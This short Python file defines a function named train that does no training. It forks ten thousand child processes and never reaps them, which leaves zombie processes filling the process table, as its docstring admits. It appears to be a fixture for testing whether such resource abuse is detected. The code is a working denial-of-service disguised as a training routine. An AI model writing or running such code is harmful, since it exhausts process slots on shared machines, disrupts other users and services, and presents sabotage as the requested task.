"""Leaves ten thousand children unburied: each keeps a slot in the process table."""

import os

MANY = 10_000


def train(model, data, context):
    for _ in range(MANY):
        if os.fork() == 0:
            os._exit(0)
